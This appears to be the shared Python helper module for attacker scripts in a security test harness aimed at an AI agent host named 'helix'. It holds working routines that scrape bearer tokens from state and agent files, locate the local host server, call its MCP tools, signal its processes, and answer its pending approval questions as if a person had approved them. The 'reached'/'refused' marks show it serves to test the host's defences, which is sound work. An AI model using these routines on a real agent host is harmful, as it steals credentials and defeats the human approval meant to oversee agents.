# What every attacker's Python can use; `hx` of attacker.sh puts it before the program.
import base64, glob, hashlib, json, os, re, socket, sqlite3, subprocess, sys, time, urllib.error, urllib.request
VICTIM, STATE, REPO, DROP = (os.environ[name] for name in ("VICTIM", "STATE", "REPO", "DROP"))

def mark(kind, words=""):
    line = "HXA-%s %s" % (kind, words)
    print(line, flush=True)
    try:
        with open(DROP + "/marks", "a") as file:
            file.write(line + "\n")
    except OSError:
        pass

def reached(words=""):
    mark("reached", words)

def refused(words=""):
    mark("refused", words)
    sys.exit(0)

def loot(text):
    line = "HXA-loot-" + hashlib.sha256(text.encode()).hexdigest()[:32]
    print(line, flush=True)
    for place in (DROP + "/loot", "loot.txt"):
        try:
            with open(place, "a") as file:
                file.write(line + "\n")
        except OSError:
            pass

def plunder(data):
    if isinstance(data, str):
        data = data.encode(errors="replace")
    for found in set(re.findall(rb"(?:sk-ant-api03-)?Hxc[a-z]+[0-9a-f]{32}", data)):
        loot(found.decode())

def read(path):
    try:
        with open(path, errors="replace") as file:
            return file.read()
    except OSError as error:
        refused(str(error))

def until(what, seconds=15):
    end = time.time() + seconds
    while time.time() < end:
        found = what()
        if found:
            return found
        time.sleep(0.05)
    return None

def address():
    """Where the host serves: its own file, else every port that listens here and answers as a host does."""
    try:
        return re.search(r"http://[^ \"]+", open(STATE + "/host.json").read()).group(0)
    except (OSError, AttributeError):
        pass
    for line in open("/proc/net/tcp").readlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and fields[1].startswith("0100007F") and int(fields[7]) in owners():
            url = "http://127.0.0.1:%d" % int(fields[1].split(":")[1], 16)
            try:
                urllib.request.urlopen(url + "/healthz", timeout=2)
                return url
            except (OSError, ValueError):
                continue
    refused("no host is found")

def owners():
    try:
        return {os.getuid(), os.stat(VICTIM).st_uid}
    except OSError:
        return {os.getuid()}

def token_of(path):
    """The first bearer token of a file."""
    text = read(path)
    found = re.search(r"Bearer ([\w.-]+)", text)
    return found.group(1) if found else text.strip()

def token():
    """Any token that can be had."""
    places = [STATE + "/token"] + sorted(glob.glob(STATE + "/agent-files/**/*.json", recursive=True))
    for place in places:
        try:
            text = open(place).read()
        except OSError:
            continue
        found = re.search(r"Bearer ([\w.-]+)", text)
        if found or place.endswith("/token"):
            return found.group(1) if found else text.strip()
    refused("no token is found")

def http(method, path, body=None, headers=None, bearer=None, timeout=20):
    """Status and text of an answer of the host."""
    headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", **(headers or {})}
    if bearer:
        headers["Authorization"] = "Bearer " + bearer
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(address() + path, data, headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return answer.status, answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")
    except OSError as error:
        return 0, str(error)

def keeper():
    """The nearest ancestor that keeps a run."""
    process = os.getppid()
    while process > 1:
        try:
            if b"\0keeper\0" in open("/proc/%d/cmdline" % process, "rb").read():
                return process
            process = int(open("/proc/%d/stat" % process).read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    refused("no keeper is seen")

def hosts():
    """Processes of the person that serve."""
    found = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words = open(path).read().split("\0")
            if os.stat(path).st_uid in owners() and words[0].endswith("helix") and {"serve", "run"} & set(words[1:3]):
                found.append(int(path.split("/")[2]))
        except OSError:
            pass
    return found or refused("no host is seen")

def signal_all(processes, number):
    for process in processes:
        try:
            os.kill(process, number)
        except OSError as error:
            refused(str(error))

def mcp(tool, arguments, headers=None, bearer=None):
    status, text = http("POST", "/mcp", {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                        "params": {"name": tool, "arguments": arguments}}, headers, bearer)
    print(status, text[:2000], flush=True)
    return status, text

def question(bearer, job=None):
    """The first open question."""
    def ask():
        status, text = http("GET", "/api/v1/questions", bearer=bearer)
        if status != 200:
            refused("questions: %s %s" % (status, text[:200]))
        found = json.loads(text)
        found = found.get("questions", found) if isinstance(found, dict) else found
        return found[0] if found else None
    return until(ask) or refused("no question is open")

def approve(bearer, **headers):
    """Answers the first open question with its first choice, as a person would."""
    asked = question(bearer)
    reached("answers " + asked["id"])
    choices = [option["key"] for option in asked.get("options", [])] or ["approve"]
    said = http("POST", "/api/v1/questions/%s/answer" % asked["id"], {"choice": choices[0], "by": "person"}, headers, bearer)
    print(said, flush=True)
